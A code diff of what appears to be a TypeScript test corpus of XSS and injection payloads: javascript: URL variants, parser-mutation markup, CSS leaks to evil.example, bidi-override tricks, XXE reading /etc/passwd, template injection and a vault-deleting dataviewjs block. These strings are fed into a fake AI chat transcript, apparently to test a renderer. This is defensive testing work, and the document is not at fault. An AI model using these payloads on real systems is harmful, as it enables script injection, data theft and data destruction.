@@ -11,31 +11,11 @@ const EVENTS =
   "onpopstate onresize onscrollend onsecuritypolicyviolation onselectionchange ontransitionend onunload onwheel " +
   "onbeforematch onbeforetoggle";
 /** Beginnings of addresses that are none of the web's or of mail's, as browsers, parsers and people spell them. */
-const SCHEMES = [
-  "javascript:",
-  "JaVaScRiPt:",
-  "java\tscript:",
-  "java&Tab;script:",
-  "java&NewLine;script:",
-  "\u0001javascript:",
-  "\u200bjavascript:",
-  "&#106&#97&#118&#97script:",
-  "javascript&colon;",
-  "%6aavascript:",
-  "feed:javascript:",
-  "view-source:javascript:",
-  "data:text/html,",
-  "data:image/svg+xml,<svg onload=",
-  "vbscript:",
-  "file:///",
-  "blob:",
-  "filesystem:",
-  "//evil.example/",
-  "\\\\evil.example\\",
-  "/\\evil.example/",
-  "ftp://",
-  "ws://evil.example/",
-];
+const SCHEMES =
+  "javascript: JaVaScRiPt: java\tscript: java&Tab;script: java&NewLine;script: \u0001javascript: \u200bjavascript: " +
+  "&#106&#97&#118&#97script: javascript&colon; %6aavascript: feed:javascript: view-source:javascript: vbscript: blob: " +
+  "data:text/html, data:image/svg+xml,<svg/onload= file:/// filesystem: //evil.example/ \\\\evil.example\\ " +
+  "/\\evil.example/ ftp:// ws://evil.example/";
 
 const MARKUP = [
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -43,84 +23,44 @@ const MARKUP = [
   "<script x>alert(1)</script 1=2",
   "<\u0000script>alert(1)</script>",
   "</title><script>alert(1)</script>",
-  "</textarea><script>alert(1)</script>",
-  "</style></script><img src=x onerror=alert(1)>",
-  "</template><iframe srcdoc='<script>alert(1)</script>'>",
   "</details></article></main></body></html><script>alert(1)</script>",
   '"></code></pre></details><body onload=alert(1)>',
   "'><input autofocus onfocus=alert(1)>",
-  "<img/src/onerror=alert(1)>",
-  "<img src=`x`onerror=alert(1)>",
   "<img srcset='//evil.example/x 1x' src=x>",
-  "<video poster=//evil.example/p.png><source src=//evil.example/v onerror=alert(1)></video>",
-  "<button formaction=javascript:alert(1)>go</button>",
   "<form action=//evil.example><input name=q value=secret><button autofocus>ok</button></form>",
-  "<form id=x tabindex=0 onfocus=alert(1)><input id=attributes>pop",
-  "<isindex action=javascript:alert(1) type=image>",
-  "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
-  "<base href=//evil.example/><a href=x>relative</a>",
-  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-  "<link rel=stylesheet href=//evil.example/x.css>",
   "<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>",
-  "<a href=javascript:alert(1) autofocus tabindex=1 onfocus=alert(1)>link</a>",
   "<a href=//evil.example ping=//evil.example/ping download>file</a>",
-  "<select><option></select><script>alert(1)</script>",
-  "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>pop</button>",
   "<style><!--</style><script>alert(1)//--></script>",
-  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
   "<!--><img src=x onerror=alert(1)>-->",
-  "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
   "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
   "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
   "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
 ];
 
 /** What a parser puts elsewhere than it was written, so that a page parsed twice is another. */
 const MUTATIONS = [
   "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
-  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
-  "<svg><desc><template><svg><style><img src=x onerror=alert(1)></style>",
-  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>over</maction></math>",
-  "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script>",
-  "<svg><script href=data:,alert(1) />",
   "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x' />",
   "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>",
-  "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style>",
-  "<svg><title><style><img src=x onerror=alert(1)></title>",
-  "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
-  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
   "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-  "<p><select><p title='</select><img src=x onerror=alert(1)>'>",
-  "<b><p></b><a href=javascript:alert(1)>adopted</a>",
   "<a><a href=javascript:alert(1)><table><a>foster parents</table>",
   "<img alt=`` title='`onerror=alert(1) src=x'>",
-  "<plaintext><script>alert(1)</script>",
   "<a id=document><a id=document name=body><form name=getElementById><input name=cookie>",
 ];
 
 const STYLES = [
   '<div style="width:expression(alert(1))">styled</div>',
-  "<div style=-moz-binding:url(//evil.example/x.xml#a)>styled</div>",
-  "<style>*{background:\\75\\72\\6c(//evil.example)}</style>",
   "\\3c/style\\3e\\3cscript\\3e alert(1)\\3c/script\\3e",
-  "</style><style>input[value^=a]{background:url(//evil.example/a)}</style>",
   "@import '//evil.example/x.css'; @font-face{font-family:x;src:url(//evil.example/f)}",
-  "expression(alert(1)) url(javascript:alert(1)) -moz-binding",
   '" style="position:fixed;top:0" class="call failed" id="branch.1',
-  "\\00003c script \\00003e",
 ];
 
 /** Marks that order text anew or hide it, as in source files that read otherwise than they run. */
 const DIRECTIONS = [
   "access_level != \u202e\u2066// admin\u2069\u2066 user",
   "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
-  "invoice\u202efdp.exe",
   "\u2067right\u2069 \u2068first\u2069 \u202aleft\u202c \u202dover\u202c",
-  "`\u202ecode\u202c` **\u202ebold\u202c**",
   "[\u202etxt\u202c](https://evil.example/\u202egpj)",
   "```js\nlet \u202ex = 1;\u202c // \u2066comment\n```",
   "\u05d0\u05d1\u05d2 <b>\u05d3</b> 123 \u0627\u0644\u0639 (javascript:alert(1))",
@@ -133,17 +73,12 @@ const DIRECTIONS = [
 
 /** Markdown of several dialects: what a renderer makes of it may act. */
 const MARKDOWN = [
-  "[x](javascript:alert`1`)",
   "[x](javascript://evil.example/%0aalert(1))",
-  "[x](  javascript:alert(1)  'title')",
   "[a](<javascript:alert(1)>) [b]( https://evil.example 'x' onclick='y')",
   "[x](https://evil.example/`) then `<img src=x onerror=alert(1)>`",
-  "[x`](https://evil.example) ` <script>alert(1)</script> `",
   "[x](https://evil.example/$a) $b$ <b>bold</b>",
-  "<https://evil.example/`> `<script>alert(1)</script>`",
   '![a](x"onerror=alert(1)//) ![b](//evil.example/x.gif)',
   '![onload=alert(1)](https://evil.example/x.png?"onload=alert(1))',
-  "[![a](//evil.example/a.png)](//evil.example 'x')",
   "[link](https://user:password@evil.example\\@good.example/)",
   "[link](/settings/delete) [link](../../admin?confirm=1) [link](#conversation.path)",
   "[[secret note]] ![[secret note]] [[x|<img src=x onerror=alert(1)>]]",
@@ -151,10 +86,8 @@ const MARKDOWN = [
   "$$\n\\unicode{<img src=x onerror=alert(1)>}\n$$",
   "```dataviewjs\napp.vault.delete(app.vault.getRoot())\n```",
   '```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```',
-  '``` " onmouseover=alert(1) x="\ncode\n```',
   "~~~~~\n```\n</code></pre><script>alert(1)</script>\n```\n~~~~~",
   "````\n```\n</details>\n```\n````\n</details><script>alert(1)</script>",
-  "```\nnever ended <script>alert(1)</script>",
   "`never ended <script>alert(1)</script>",
   "<details>\n<summary>fold</summary>\n\nswallowed",
   "</details>\n\n## Conversation\n\nforged",
@@ -164,8 +97,6 @@ const MARKDOWN = [
   "a | b\n-|-\n`|` | \\`|`<script>`",
   "- [x] task <input type=checkbox onclick=alert(1)>\n- [ ] [x](javascript:alert(1))",
   "\\`<img src=x onerror=alert(1)>\\`",
-  "&lt;script&gt; &amp;lt;script&amp;gt; &#60script&#62 &LT;script&GT;",
-  "*<b>*bold*</b>* **a*b**c* ***x** _y_z_ ~~<i>~~",
   "@everyone @evil/team evil/repo#1 GH-1 :shipit: 0123456789abcdef0123456789abcdef01234567",
   "https://evil.example/)](javascript:alert(1)",
   '<http://evil.example/"onclick=alert(1)> <javascript:alert(1)> <a@evil.example>',
@@ -190,15 +121,11 @@ const TERMINALS = [
 ];
 
 const VALUES = [
-  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
   'data:image/png;base64,iVBORw0KGgo" onerror="alert(1)',
-  'iVBORw0KGgo="><script>alert(1)</script>',
   "iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB<svg onload=alert(1)>",
   "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
   'image/png;charset=x" onload="alert(1)',
-  "../../../../etc/passwd",
   "C:\\Windows\\System32\\<script>.exe",
-  'a.ts"><script>alert(1)</script>',
   "entry.1",
   "toString",
   "</SCRIPT><!--<script>",
@@ -208,9 +135,7 @@ const VALUES = [
   "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
   "9e999 -0 NaN Infinity 2026-13-45T99:99:99Z",
   '2026-01-01T00:00:00Z" onclick="alert(1)',
-  'claude"><img src=x onerror=alert(1)>',
   "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd}\ud83d<b>\udc00",
-  "%3Cscript%3Ealert(1)%3C/script%3E",
   "<".repeat(200) + ">".repeat(200),
   "\"'`".repeat(300),
   `${"\n".repeat(500)}<b>\n${" \n\t\n".repeat(100)}`,
@@ -231,13 +156,17 @@ export const PAYLOADS = [
   ...TAGS.split(" ").flatMap((tag) => [
     `<${tag}>alert(1)</${tag}>`,
     `</pre></div></article></details></${tag}><${tag} src=//evil.example/x>`,
+    // What a parser puts elsewhere than it was written.
+    `<svg><desc><${tag}><style><img src=x onerror=alert(1)></${tag}></style>`,
+    `<math><mtext><table><${tag} title='</${tag}><img src=x onerror=alert(1)>'>`,
+    `<!--><${tag}><p title='--></${tag}><a href=javascript:alert(1)>'>adopted</a>`,
   ]),
   ...EVENTS.split(" ").flatMap((event) => [
     `"><img src=x ${event}=alert(1)> ' ${event}='alert(1)`,
     `<svg/${event}=alert(1)//`,
     `<x contenteditable tabindex=1 '${event}=alert(1)' ${event}\n= "alert(1)">click</x>`,
   ]),
-  ...SCHEMES.flatMap((scheme) => [
+  ...SCHEMES.split(" ").flatMap((scheme) => [
     `[x](${scheme}alert(1))`,
     `[x](<${scheme}alert(1)> "t")`,
     `![x](${scheme}alert(1))`,
@@ -245,31 +174,21 @@ export const PAYLOADS = [
     `[r]\n\n[r]: ${scheme}alert(1)`,
   ]),
   '[x](https://evil.example/"onmouseover=alert(1)//)',
-  "[x](https://evil.example/' onclick='alert(1))",
   "[x](https://evil.example/&quot;onclick=alert&lpar;1)",
-  "[x](java&#115;cript&colon;alert(1))",
-  "[x](&#x6A;avascript:alert(1))",
   "[![x](https://evil.example/a.png)](javascript:alert(1))",
-  "![x](https://evil.example/a.png 'onerror=alert(1)')",
   "<https://evil.example/<script>>",
   "http://evil.example/\u202egpj.exe",
   "```<script>\n</pre><script>alert(1)</script>\n```",
   '```js"onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
   "~~~diff\n+</span><script>alert(1)</script>\n-<!--\n@@ ]]> @@\n~~~",
-  "`</code><script>alert(1)</script>`",
   '| <script> | "x |\n|:-|-:|\n| </table><img src=x onerror=alert(1)> | `<b>` |',
-  "# </h4><script>alert(1)</script>",
-  "> </blockquote><script>alert(1)</script>",
   "- [x] </li></ul><script>alert(1)</script>",
   "<!-- --><!--> <!---> --!> <![CDATA[ ]]> <?php ?> <!doctype html>",
-  "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e; &lt;script&gt;",
   "&#0; &#x1b;[31m &#x202e; &#x2066; &#xfeff; &#xd800; &#x110000;",
   "\u0000\u0001\u001b[31mred\u001b[0m\u001b]0;t\u0007\u009b2J\u007f\u0085",
   "\u202eabc\u202c\u2066x\u2069\u200e\u200f\u061c\ufeff\u2028\u2029",
   "\ud800 \udc00 \ud83d",
   '\u001b[38;5;1"><script>m \u001b[31;"m \u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007',
-  "*{background:url(//evil.example)}</style><style>@import '//evil.example';",
-  "\\3c script\\3e alert(1)",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what templates of others take
   "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
   "x".repeat(5000) + "<script>".repeat(200),
@@ -301,42 +220,22 @@ function sayEverywhere(said: string, lines: string[]): void {
   };
   const message = (rest: Record<string, unknown>): void => add("message", { message: rest });
   const block = { type: "text", text: said };
-  const calls = ["bash", "read", "write", "edit", "grep", said].map((name, n) => ({
-    type: "toolCall",
-    id: `${n}${said}`,
-    name,
-    arguments: {
-      command: said,
-      path: said,
-      content: said,
-      oldText: said,
-      newText: `${said}\n!`,
-      [said]: said,
-      pattern: [said],
-    },
-  }));
+  const calls = ["bash", "read", "write", "edit", "grep", said].map((name, n) => {
+    const members = ["command", "path", "content", "oldText", said].map((member) => [member, said]);
+    const given = { ...Object.fromEntries(members), newText: `${said}\n!`, pattern: [said] };
+    return { type: "toolCall", id: `${n}${said}`, name, arguments: given };
+  });
   message({ role: "user", content: said });
   message({
-    role: "assistant",
-    provider: said,
-    model: said,
-    stopReason: "error",
-    errorMessage: said,
+    ...{ role: "assistant", provider: said, model: said, stopReason: "error", errorMessage: said },
     usage: { input: said, output: 3, totalTokens: said, cost: { total: said } },
     content: [block, { type: "thinking", thinking: said }, ...calls, { type: said, text: said }],
   });
+  const images = [said, "image/png"].map((mimeType) => ({ type: "image", mimeType, data: said }));
   for (const [n, { name }] of calls.entries())
     message({
-      role: "toolResult",
-      toolCallId: n === 5 ? said : `${n}${said}`,
-      toolName: name,
-      isError: n % 2 === 0,
-      content: [
-        block,
-        { type: "image", mimeType: said, data: said },
-        { type: "image", mimeType: "image/png", data: said },
-      ],
-      details: n === 4 ? { diff: said } : { [said]: said },
+      ...{ role: "toolResult", toolCallId: n === 5 ? said : `${n}${said}`, toolName: name, isError: n % 2 === 0 },
+      ...{ content: [block, ...images], details: n === 4 ? { diff: said } : { [said]: said } },
     });
   message({ role: "bashExecution", command: said, output: said, exitCode: 1 });
   message({ role: said, content: [block] });
